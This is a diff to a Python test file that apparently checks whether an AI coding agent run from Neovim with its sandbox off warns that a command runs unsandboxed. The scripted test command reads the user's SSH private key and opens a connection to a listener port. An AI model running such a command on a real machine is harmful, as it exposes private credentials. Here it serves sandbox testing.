@@ -136,7 +136,9 @@ def test_the_same_command_with_the_sandbox_off_reaches_all_of_it(
     port, got = listener
     outside = tmp_path / "outside.txt"
     nv = claude_home(nvim_factory, fake_api, home, tools={"sandbox": "off"})
-    fake_api.script(run(f"echo out > {outside}; cat ~/.ssh/id_ed25519; {connect(port)}"), text("ok"))
+    fake_api.script(
+        run(f"echo out > {outside}; cat ~/.ssh/id_ed25519; {connect(port)}"), text("ok")
+    )
     send(nv)
     wait_pending(nv)
     assert any("runs unsandboxed: tools.sandbox is 'off'" in line for line in transcript(nv))
